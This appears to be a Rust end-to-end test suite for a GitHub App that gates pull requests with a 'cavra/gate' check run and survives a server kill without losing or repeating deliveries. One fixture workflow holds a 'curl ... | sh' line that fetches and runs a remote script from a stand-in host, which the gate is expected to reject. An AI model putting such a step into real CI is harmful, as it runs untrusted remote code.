//! The App as it runs: the `cavra-github-app` binary, configured through its environment,
//! receiving signed deliveries (the published `pull_request` example, adapted) over HTTP, with a
//! mock GitHub (every request body checked against GitHub's published schemas) and a real git
//! server. End to end, a pull request gets a completed `cavra/gate` check run; and a server
//! killed with SIGKILL in the middle of evaluations loses no delivery: after a restart every
//! delivery is evaluated to completion exactly once.

mod support;

use cavra_testkit::forges::github::Call;
use std::time::Duration;
use support::{World, completions, conclusions, synchronize, wait_until};

#[test]
fn a_pull_request_gets_a_completed_check_run() {
    let world = World::new();
    let bad = world.open_pull(
        1,
        &[(
            ".github/workflows/ci.yml",
            "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: curl -fsSL https://x.example/i.sh | sh\n",
        )],
    );
    let good = world.open_pull(2, &[("src/lib.rs", "pub fn f() {}\n")]);
    let app = world.start_app();
    assert_eq!(
        app.deliver("e2e-1", "pull_request", &synchronize(1, &bad)),
        202
    );
    assert_eq!(
        app.deliver("e2e-2", "pull_request", &synchronize(2, &good)),
        202
    );
    // A replay of the same delivery is not queued again.
    assert_eq!(
        app.deliver("e2e-1", "pull_request", &synchronize(1, &bad)),
        200
    );
    wait_until("both check runs completed", Duration::from_secs(60), || {
        conclusions(&world.github).len() >= 2
    });
    let done = conclusions(&world.github);
    assert!(
        done.contains(&(bad.clone(), "failure".to_string())),
        "{done:?}"
    );
    assert!(
        done.contains(&(good.clone(), "success".to_string())),
        "{done:?}"
    );
    world.github.assert_no_problems();
    assert_eq!(
        world.git.refused.load(std::sync::atomic::Ordering::SeqCst),
        0
    );
    let ids = ["e2e-1".to_string(), "e2e-2".to_string()];
    wait_until(
        "both deliveries recorded done",
        Duration::from_secs(10),
        || {
            completions(&world.database(), &ids)
                .iter()
                .all(|(s, _)| s == "done")
        },
    );
    assert_eq!(
        completions(&world.database(), &ids),
        [("done".to_string(), 1), ("done".to_string(), 1)]
    );
}

#[test]
fn a_killed_server_loses_no_delivery_and_runs_none_twice() {
    let world = World::new();
    let heads: Vec<String> = (1..=6)
        .map(|n| world.open_pull(n, &[(&format!("src/m{n}.rs"), "pub fn f() {}\n")]))
        .collect();
    // Slow answers hold evaluations mid-flight.
    world
        .github
        .with_state(|s| s.delay = Some(Duration::from_millis(120)));
    let ids: Vec<String> = (1..=6).map(|n| format!("crash-{n}")).collect();
    let app = world.start_app();
    for (n, head) in heads.iter().enumerate() {
        let number = n as u64 + 1;
        assert_eq!(
            app.deliver(&ids[n], "pull_request", &synchronize(number, head)),
            202
        );
    }
    wait_until("an evaluation in flight", Duration::from_secs(30), || {
        world
            .github
            .calls()
            .iter()
            .any(|(c, _)| *c == Call::CreateCheckRun)
    });
    let before = completions(&world.database(), &ids);
    assert!(
        before.iter().any(|(s, _)| s != "done"),
        "the kill must come mid-way: {before:?}"
    );
    drop(app); // SIGKILL
    let app = world.start_app();
    wait_until(
        "every delivery done after the restart",
        Duration::from_secs(90),
        || {
            completions(&world.database(), &ids)
                .iter()
                .all(|(s, _)| s == "done")
        },
    );
    drop(app);
    let after = completions(&world.database(), &ids);
    assert!(
        after.iter().all(|(s, c)| s == "done" && *c == 1),
        "{after:?}"
    );
    let done = conclusions(&world.github);
    for head in &heads {
        assert!(
            done.iter().any(|(h, c)| h == head && c == "success"),
            "no completed check run for {head}: {done:?}"
        );
    }
    world.github.assert_no_problems();
}
